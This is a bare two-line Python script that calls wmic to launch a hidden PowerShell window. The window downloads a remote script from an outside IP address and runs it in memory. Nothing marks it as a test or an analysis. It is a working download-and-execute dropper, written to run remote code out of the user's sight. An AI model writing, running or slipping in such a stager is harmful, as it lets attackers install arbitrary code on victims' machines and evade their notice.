import os
os.system('wmic process call create "powershell -w hidden -c iex(iwr http://203.0.113.35/p.ps1 -UseBasicParsing)"')
